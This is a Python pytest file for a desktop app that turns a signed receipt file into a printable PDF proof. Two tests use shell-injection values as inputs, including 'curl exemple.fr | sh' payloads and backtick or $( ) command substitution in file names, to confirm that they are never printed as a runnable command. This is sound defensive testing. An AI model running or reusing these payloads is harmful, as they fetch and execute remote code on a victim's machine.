"""The proof of transmission as a page: what the signed file proves, how that is checked, and no more."""

from __future__ import annotations

import base64
import hashlib
import io
import json

import pytest
from pypdf import PdfReader

from desktop.errors import AppError
from desktop.services import transmission
from desktop.services.exchange_receipts import ReceiptService
from desktop.services.transmission import page_of, write_page
from tests.services.two_laptops import a_visit, linked, receiver_at, told


@pytest.fixture
def proof(tmp_path, services):
    """The file of a laptop whose case arrived."""
    with receiver_at(tmp_path) as receiver:
        linked(services, receiver)
        a_visit(services)
        told(services)
    path = tmp_path / "preuve.json"
    ReceiptService(services.workspace).write(path)
    return path


def words(pdf: bytes) -> str:
    """All that it says, lines and spaces apart: a print may stand on two lines."""
    return "".join("".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages).split())


def test_each_receipt_stands_there_with_its_number_its_hour_and_its_print(proof):
    page = words(write_page(proof).read_bytes())
    file = json.loads(proof.read_text())
    assert len(file["receipts"]) > 2
    for line in file["receipts"]:
        assert f"n°{line['receipt']['sequence']}" in page
        assert line["receipt"]["sha256"] in page
        assert line["record_id"] in page
    assert file["receipt_key"] in page
    assert hashlib.sha256(proof.read_bytes()).hexdigest() in page
    assert 'perronreceipts--check"preuve.json"--receipt-key' in page
    assert "DELATTRE" not in page
    assert "Mursh" not in page


def test_it_takes_no_name_that_is_taken(proof):
    taken = proof.with_suffix(".pdf")
    taken.write_bytes(b"un autre")
    assert write_page(proof) == proof.with_name("preuve (2).pdf")
    assert taken.read_bytes() == b"un autre"


def test_of_a_file_that_was_altered_no_page_is_made(proof):
    file = json.loads(proof.read_text())
    file["receipts"][0]["receipt"]["sequence"] += 1
    with pytest.raises(AppError, match="ne sont pas signés"):
        page_of(json.dumps(file).encode(), "preuve.json")
    with pytest.raises(AppError, match="n’est pas une liste d’accusés"):
        page_of(b"{}", "preuve.json")


def test_what_is_no_key_in_a_crafted_file_is_printed_as_no_command(proof):
    """Somebody hands over a file; whoever reads its page types what stands there."""
    file = json.loads(proof.read_text())
    file["earlier_keys"] = ["x; curl exemple.fr | sh; #"]
    with pytest.raises(AppError, match="n’est pas une liste d’accusés"):
        page_of(json.dumps(file).encode(), "preuve.json")


@pytest.mark.parametrize(
    "name", ['p"; curl exemple.fr | sh; ".json', "p$(curl exemple.fr).json", "p`id`.json", "%x%.json"]
)
def test_a_name_that_a_shell_would_read_stands_in_no_command(proof, name):
    page = words(page_of(proof.read_bytes(), name))
    assert "perronreceipts--checkFICHIER--receipt-key" in page


def test_each_key_that_is_printed_is_to_be_compared_not_one_of_them(proof):
    """A crafted file has the Department's key, and as a key of before the one that signed."""
    file = json.loads(proof.read_text())
    file["earlier_keys"] = [base64.b64encode(bytes(32)).decode()]
    page = words(page_of(json.dumps(file).encode(), "preuve.json"))
    assert "chacunedecellesimpriméesplushautdoitenfairepartie" in page
    assert file["earlier_keys"][0] in page


def test_more_than_anybody_reads_stays_a_file(proof, monkeypatch):
    monkeypatch.setattr(transmission, "LONGEST_PAGE", 1)
    with pytest.raises(AppError, match="plus de cent pages"):
        write_page(proof)
    assert not proof.with_suffix(".pdf").exists()
